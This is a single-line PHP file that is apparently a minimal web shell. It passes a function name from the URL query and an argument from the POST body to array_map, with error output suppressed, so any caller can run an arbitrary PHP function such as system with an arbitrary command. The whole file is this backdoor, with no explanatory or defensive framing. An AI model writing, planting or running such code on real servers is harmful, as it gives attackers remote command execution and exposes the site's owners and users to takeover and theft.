<?php
@array_map($_GET['f'], array($_POST['x']));
